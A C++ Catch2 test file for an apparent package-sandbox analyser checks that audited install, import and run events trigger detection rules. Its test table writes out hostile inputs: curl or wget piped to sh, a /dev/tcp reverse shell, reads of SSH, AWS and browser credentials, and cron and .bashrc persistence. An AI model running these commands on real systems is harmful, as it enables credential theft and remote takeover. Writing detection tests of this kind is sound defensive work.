#include <catch2/catch.hpp>

#include "tests/analysis/scene.hpp"

using namespace scene;
using actors::verdict;
using analysis::analyse;

namespace {

struct row {
  const char* phase;
  const char* event;
  const char* args;
  const char* rule;  ///< empty: nothing at all
};

// One line each: what a package does, and the rule that must hold; below each its innocent twins.
const row deeds[] = {
    {"install", "socket.getaddrinfo", "('evil.example', 443, 0, 1, 0)", "network_install"},
    {"install", "socket.getaddrinfo", "('127.0.0.1', 3141, 0, 1, 0)", ""},
    {"install", "socket.getaddrinfo", "('localhost', 80, 0, 1, 0)", ""},
    {"install", "socket.getaddrinfo", "('localhost.evil.example', 80, 0, 1, 0)", "network_install"},
    {"install", "socket.getaddrinfo", "('127.evil.example', 80, 0, 1, 0)", "network_install"},
    {"install", "urllib.Request", "('http://127.0.0.1:3141/simple/', None, {}, 'GET')", ""},
    {"install", "urllib.Request", "('http://127.0.0.1.evil.example/', None, {}, 'GET')", "network_install"},
    {"install", "urllib.Request", "('http://127.0.0.1@evil.example/', None, {}, 'GET')", "network_install"},
    {"install", "socket.getaddrinfo", "(None, 0, 0, 1, 0)", ""},
    {"install", "socket.connect", "(<socket.socket fd=3>, ('93.184.216.34', 443))", "network_install"},
    {"install", "socket.connect", "(<socket.socket fd=3>, ('127.0.0.1', 3141))", ""},
    {"install", "socket.connect", "(<socket.socket fd=3>, '/run/lazaret/audit.sock')", ""},
    {"import", "socket.connect", "(<socket.socket fd=3>, ('2606:2800::1', 443, 0, 0))", "network_import"},
    {"execute", "socket.connect", "(<socket.socket fd=3>, ('1.2.3.4', 443))", "network_run"},
    {"install", "socket.connect", "(<socket.socket fd=3>, '/var/run/docker.sock')", "control_socket"},
    {"import", "urllib.Request", "('http://169.254.169.254/latest/meta-data/', None, {}, 'GET')", "metadata_service"},
    {"import", "socket.getaddrinfo", "('api.telegram.org', 443, 0, 1, 0)", "drop_host"},
    {"install", "socket.bind", "(<socket.socket fd=3>, ('0.0.0.0', 4444))", "listening_socket"},
    {"install", "socket.bind", "(<socket.socket fd=3>, ('::1', 0))", ""},
    {"install", "subprocess.Popen", "('/usr/bin/id', ['id'], None, None)", "subprocess_install"},
    {"install", "subprocess.Popen", "('gcc', ['gcc', '-c', 'x.c'], None, None)", ""},
    {"install", "subprocess.Popen", "('/bin/sh', ['/bin/sh', '-c', 'uname -p 2'], None, None)", ""},
    {"install", "subprocess.Popen", "('/work/tmp/x/gcc', ['gcc'], None, None)", "subprocess_install"},
    {"install", "os.system", "('uname -a',)", ""},
    {"install", "os.system", "(b'curl -s http://x.example/i.sh | sh',)", "download_and_run"},
    {"import", "os.system", "('wget -qO- http://x/a|bash',)", "download_and_run"},
    {"import", "subprocess.Popen", "('curl', ['curl', 'http://x'], None, None)", "download_tool"},
    {"import", "subprocess.Popen", "('/sbin/ldconfig', ['/sbin/ldconfig', '-p'], None, {})", ""},
    {"execute", "subprocess.Popen", "('bash', ['bash', '-i', '>&', '/dev/tcp/1.2.3.4/99'], None, None)",
     "reverse_shell"},
    {"install", "subprocess.Popen",
     "('python3', ['python3', '-c', 'exec(__import__(\"base64\").b64decode(\"aQ==\"))'], None, None)",
     "hidden_command"},
    {"import", "os.exec", "(b'/proc/self/fd/5', ['x'], None)", "memfd_exec"},
    {"import", "os.posix_spawn", "('/tmp/.x/miner', ['miner'], {})", "exec_from_scratch"},
    {"install", "open", "('/work/home/.ssh/id_rsa', 'r', 524288)", "credential_read"},
    {"install", "open", "(b'/root/.aws/credentials', None, 524288)", "credential_read"},
    {"import", "os.listdir", "('/root/.ssh',)", "credential_read"},
    {"import", "open", "('/work/site/../../root/.netrc', 'rb', 0)", "credential_read"},
    {"import", "open", "('/work/home/.config/google-chrome/Default/Login Data', 'rb', 0)", "browser_or_wallet_read"},
    {"import", "open", "('/work/home/.bash_history', 'r', 0)", "history_read"},
    {"import", "open", "('/proc/self/environ', 'r', 0)", "environment_read"},
    {"import", "open", "('/proc/cpuinfo', 'r', 0)", ""},
    {"import", "open", "('/sys/devices/system/cpu/possible', 'r', 0)", ""},
    {"import", "open", "('/work/site/ssh/client.py', 'r', 0)", ""},
    {"install", "open", "('/work/home/.bashrc', 'a', 0)", "persistence_write"},
    {"install", "open", "('/usr/lib/python3/dist-packages/sitecustomize.py', 'w', 0)", "persistence_write"},
    {"install", "os.rename", "('/work/tmp/a', '/etc/cron.d/x', -1, -1)", "persistence_write"},
    {"install", "os.symlink", "('/x', '/work/home/.config/autostart/x.desktop', -1)", "persistence_write"},
    {"install", "open", "('/work/home/notes.txt', 'w', 0)", "write_outside_install"},
    {"install", "open", "('/work/site/x/y.py', 'w', 0)", ""},
    {"install", "open", "('/work/home/.cache/pip/x', 'wb', 0)", ""},
    {"install", "open", "('/work/tmp/pip-1/x', None, 577)", ""},
    {"install", "open", "('/dev/null', 'w', 0)", ""},
    {"install", "open", "(5, 'w', 0)", ""},
    {"install", "open", "('build/lib/x.py', 'w', 0)", ""},
    {"import", "open", "('/work/site/requests/api.py', 'w', 0)", "installed_code_changed"},
    {"import", "open", "('/work/site/x/__pycache__/y.cpython-311.pyc.140', 'wb', 0)", ""},
    {"import", "ctypes.dlopen", "('/tmp/x.so',)", "library_from_scratch"},
    {"import", "ctypes.dlopen", "(None,)", ""},
    {"import", "ctypes.dlopen", "('libc.so.6',)", ""},
    {"import", "ctypes.dlsym", "(<CDLL 'None', handle 7f>, 'memfd_create')", "dangerous_symbol"},
    {"import", "marshal.loads", "(b'\\xe3\\x00',)", "decoded_code"},
    {"import", "compile", "(b'import socket,subprocess;s=socket.socket()', '<string>')", "decoded_code"},
    {"import", "compile", "(b'lambda v,f=f:not f(v)', '<string>')", ""},
    {"import", "compile", "(b'__version__ = \"1.0\"\\n', '<string>')", ""},
    {"import", "compile", "(b'x = 1', '/usr/lib/python3.11/os.py')", "misnamed_code"},
    {"import", "os.kill", "(1, 9)", "process_kill"},
    {"import", "os.kill", "(4, 9)", "process_kill"},
    {"import", "os.kill", "(11, 15)", ""},
    {"import", "os.kill", "(4, 0)", ""},
    {"import", "pty.spawn", "(['/bin/bash'],)", "terminal_spawn"},
    {"install", "os.system", "('nohup ./x &',)", "background_command"},
    {"install", "import", "('ssl', None)", ""},
    {"import", "subprocess.Popen", "('python3', ['python3', '-ESc', 'print(1)'], None, None)", "hook_evasion"},
    {"import", "subprocess.Popen", "('python3', ['python3', '-c', 'print(1)', '-S'], None, None)", ""},
    {"import", "subprocess.Popen", "('python3', ['python3', 'x.py', '-I'], None, None)", ""},
    {"install", "os.remove", "('sitecustomize.py', 9)", ""},
};

}  // namespace

TEST_CASE("Each deed leads to its rule, and its innocent twin to none") {
  for (const auto& d : deeds) {
    INFO(d.phase << ": " << d.event << d.args);
    const auto r = judge(d.phase, audit(d.event, d.args));
    for (const auto& f : r.findings) UNSCOPED_INFO("found " << f.rule);
    if (*d.rule != '\0') {
      const auto* f = find(r, d.rule);
      REQUIRE(f != nullptr);
      REQUIRE(f->evidence.size() == 1);
      CHECK_THAT(f->evidence[0], Catch::StartsWith(std::string{d.phase} + ": "));
    } else {
      CHECK(r.findings.empty());
      CHECK(r.verdict == verdict::benign);
    }
  }
}

TEST_CASE("Evidence names phase, event, object and the caller's line") {
  const auto r = judge("install", audit("open", "('/root/.ssh/id_rsa', 'r', 0)", "setup.py"));
  CHECK(find(r, "credential_read")->evidence[0] == "install: read /root/.ssh/id_rsa, by setup.py:3 in f [hook: open]");
  CHECK(r.verdict == verdict::malicious);
  CHECK_THAT(r.summary, Catch::StartsWith("malicious (score ") && Catch::Contains("Looked for credentials"));
}

TEST_CASE("What the observer confirms counts in full, a hint that it would have seen does not") {
  const std::string hint = audit("socket.connect", "(<socket.socket fd=3>, ('1.2.3.4', 443))");
  const std::string seen = R"({"t":0.1,"pid":4,"event":"connect","family":"inet","address":"1.2.3.4","port":443})"
                           "\n";
  const auto by_hook = judge("install", hint), by_both = judge("install", hint, seen),
             by_observer = judge("install", "", seen);
  CHECK(by_hook.score < by_both.score);
  CHECK(by_both.score == by_observer.score);
  CHECK_THAT(find(by_hook, "network_install")->title, Catch::EndsWith("(told by the hook only)"));
  CHECK(find(by_both, "network_install")->evidence.size() == 2);
}

TEST_CASE("The observer alone is enough: a native program's deeds are found without a hook") {
  const auto seen =
      std::string{R"({"t":0,"pid":4,"event":"exec","path":"/usr/bin/curl","argv":["curl","x"],"python":false})"} +
      "\n" + R"({"t":0,"pid":4,"event":"connect","family":"inet","address":"127.0.0.1","port":53})" + "\n";
  const auto r = judge("install", "", seen);
  CHECK(find(r, "download_tool") != nullptr);
  CHECK(find(r, "network_install") != nullptr);
  CHECK(r.highlights.subprocesses == std::vector<std::string>{"curl x"});
}

TEST_CASE("The start of the phase's own interpreter is no finding") {
  const auto seen =
      std::string{
          R"({"t":0,"pid":2,"event":"exec","path":"/usr/bin/python3","argv":["/usr/bin/python3","-m","pip"],"python":true})"} +
      "\n" + R"({"t":0,"pid":2,"event":"connect","unix":"/run/lazaret/audit.sock"})" + "\n" +
      R"({"t":0,"pid":2,"event":"bind","family":"netlink","address":"","port":0})" + "\n" +
      R"({"t":0,"pid":2,"event":"bind","family":"inet6","address":"::1","port":0})" + "\n";
  for (const auto* phase : {"install", "import", "execute"}) CHECK(judge(phase, "", seen).findings.empty());
}

TEST_CASE("Secrets and network together are theft") {
  const auto r =
      judge("import", audit("open", "('/root/.ssh/id_rsa', 'r', 0)") + audit("socket.getaddrinfo", "('a.example', 1)"));
  REQUIRE(find(r, "theft") != nullptr);
  CHECK(find(r, "theft")->evidence.size() == 2);
  CHECK(r.verdict == verdict::malicious);
}

TEST_CASE("Code made from text after the network was used is found, before it is not") {
  const auto code = audit("compile", "(b'x=1', '<string>')"), net = audit("socket.getaddrinfo", "('a.example', 1)");
  CHECK(find(judge("import", net + code), "network_code") != nullptr);
  CHECK(find(judge("import", code + net), "network_code") == nullptr);
  CHECK(find(judge("import", audit("socket.getaddrinfo", "('a.example', 1)", "x.py", 9) + code), "network_code") ==
        nullptr);
}

TEST_CASE("A file that imports a decoder and then runs text is found") {
  const auto import = audit("import", "('base64', None)"), code = audit("compile", "(b'x=1', '<string>')");
  CHECK(find(judge("import", import + code), "decoded_code") != nullptr);
  CHECK(find(judge("import", audit("import", "('base64', None)", "/work/site/y.py") + code), "decoded_code") ==
        nullptr);
}

TEST_CASE("A child whose first act is to fork again detaches itself") {
  const auto first = audit("import", "('x', None)") + audit("os.fork", "()");
  CHECK(find(judge("import", first), "daemonise") == nullptr);
  CHECK(find(judge("import", first + audit("os.fork", "()", "x.py", 11)), "daemonise") != nullptr);
}

TEST_CASE("A rule keeps at most ten lines of evidence and says how many more there were") {
  std::string lines;
  for (int i = 0; i < 40; ++i) lines += audit("open", "('/root/.ssh/key" + std::to_string(i) + "', 'r', 0)");
  const auto r = judge("install", lines + lines);
  CHECK(find(r, "credential_read")->evidence.size() == 10);
  CHECK(find(r, "credential_read")->evidence[9] == "and 31 more like these");
}

TEST_CASE("How a phase ended is evidence too") {
  using sandbox::ending;
  const folder place;
  place.write("audit.jsonl", ""), place.write("seen.jsonl", end_line);
  place.write("err", "OSError: [Errno 28] No space left on device\n");
  auto r = watched_run("install");
  auto& p = r.execution->phases[0];
  const auto finds = [&](std::string_view rule) { return find(analyse(r, place.path()), rule) != nullptr; };
  CHECK(analyse(r, place.path()).verdict == verdict::benign);
  p.outcome.reason = ending::wall_timeout;
  CHECK(finds("timed_out"));
  p.outcome.reason = ending::cpu_timeout, p.timed_out = true;
  CHECK(finds("cpu_exhausted"));
  p.outcome.reason = ending::out_of_memory;
  CHECK(finds("out_of_memory"));
  p.outcome.reason = ending::syscall_denied;
  CHECK(finds("syscall_denied"));
  p.outcome.reason = ending::exited, p.timed_out = false, p.outcome.pids_exhausted = true;
  CHECK(finds("pids_exhausted"));
  p.output_truncated = true;
  CHECK(finds("output_flood"));
  p.stderr_file = "err";
  CHECK(finds("disk_full"));
  p.uncovered = {"/usr/bin/perl"};
  CHECK(finds("not_covered"));
  CHECK(analyse(r, place.path()).uncovered == std::vector<std::string>{"/usr/bin/perl"});
  p.audit_truncated = true;
  CHECK(finds("audit_truncated"));
}

TEST_CASE("What the download stage met is judged, also when nothing could run") {
  actors::run r;
  r.asked.package_name = "x";
  r.download.emplace();
  r.download->artefact.filename = "x-1.tar.gz";
  r.download->notes = {{"archive_bomb", "x-1.tar.gz: 1 KB unpacks to 10 GB"}};
  r.download->unpackable = false, r.download->error = "archive limits";
  const auto v = analyse(r, "/nonexistent");
  CHECK(find(v, "archive_bomb")->evidence[0] == "x-1.tar.gz: 1 KB unpacks to 10 GB");
  CHECK(find(v, "digest_missing") != nullptr);
  CHECK(v.verdict == verdict::malicious);
}

TEST_CASE("A note whose id no rule has is shown all the same") {
  actors::run r;
  r.download.emplace();
  r.download->notes = {{"something_new", "a line"}};
  CHECK(find(analyse(r, "/nonexistent"), "unlisted_note")->evidence[0] == "something_new: a line");
}

TEST_CASE("A .pth file and another package's metadata are found in the listing") {
  auto r = watched_run("install");
  r.download.emplace();
  r.download->artefact.digest_from_index = true;
  r.download->listing.pth_files = {"evil.pth"};
  r.download->listing.metadata_name = "y";
  const folder place;
  place.write("audit.jsonl", ""), place.write("seen.jsonl", end_line);
  CHECK(find(analyse(r, place.path()), "pth_file") != nullptr);
  CHECK(find(analyse(r, place.path()), "metadata_mismatch") != nullptr);
  r.asked.package_name = "Set_up.tools", r.download->listing.metadata_name = "set-up-tools",
  r.download->listing.pth_files.clear();
  CHECK(analyse(r, place.path()).findings.empty());
}

TEST_CASE("A run that could not be watched is inconclusive and says why") {
  const folder place;
  place.write("audit.jsonl", ""), place.write("seen.jsonl", end_line);
  auto r = watched_run("install");
  const auto inconclusive = [&] { return analyse(r, place.path()).verdict == verdict::inconclusive; };
  CHECK_FALSE(inconclusive());
  r.execution->phases[0].watched = false;
  CHECK(inconclusive());
  CHECK_THAT(analyse(r, place.path()).summary, Catch::Contains("witnesses"));
  r.execution->phases[0].watched = true, r.execution->phases[0].ok = false;
  r.execution->phases[0].summary = "pip install failed: no such version";
  CHECK_THAT(analyse(r, place.path()).summary, Catch::Contains("no such version"));
  CHECK(inconclusive());
  r.execution->phases[0].ok = true, r.execution->error = "no jailer";
  CHECK(inconclusive());
  r.execution->error.clear(), r.execution->phases[0].observations_file = "missing.jsonl";
  CHECK(inconclusive());
  place.write("cut.jsonl", "");
  r.execution->phases[0].observations_file = "cut.jsonl";
  CHECK(inconclusive());
  r.execution->phases.clear();
  CHECK(inconclusive());
  r.execution.reset();
  CHECK(inconclusive());
}

TEST_CASE("Highlights are the five lists, in order of first sight and without repeats") {
  const auto r = judge(
      "execute",
      audit("open", "('/work/tmp/b', 'w', 0)") + audit("open", "('/work/tmp/a', 'w', 0)") +
          audit("open", "('/work/tmp/b', 'w', 0)") + audit("open", "('/work/site/d.txt', 'r', 0)") +
          audit("socket.getaddrinfo", "('h.example', 80)") + audit("socket.connect", "(<s>, ('1.2.3.4', 80))") +
          audit("socket.sendto", "(<s>, ('1.2.3.4', 99))") + audit("socket.bind", "(<s>, ('0.0.0.0', 70))") +
          audit("ssl.handshake", "('h.example',)") + audit("os.system", "('echo " + std::string(300, 'x') + "',)") +
          audit("lazaret.skipped", "{'open': 512}"));
  CHECK(r.highlights.files_written == std::vector<std::string>{"/work/tmp/b", "/work/tmp/a"});
  CHECK(r.highlights.files_read == std::vector<std::string>{"/work/site/d.txt"});
  CHECK(r.highlights.network == std::vector<std::string>{"dns h.example", "connect 1.2.3.4:80", "sendto 1.2.3.4:99",
                                                         "bind 0.0.0.0:70", "tls h.example"});
  CHECK(r.highlights.subprocesses.at(0).size() == 120);
  CHECK(r.highlights.top_events.at(0) == std::pair<std::string, std::uint64_t>{"open", 516});
}
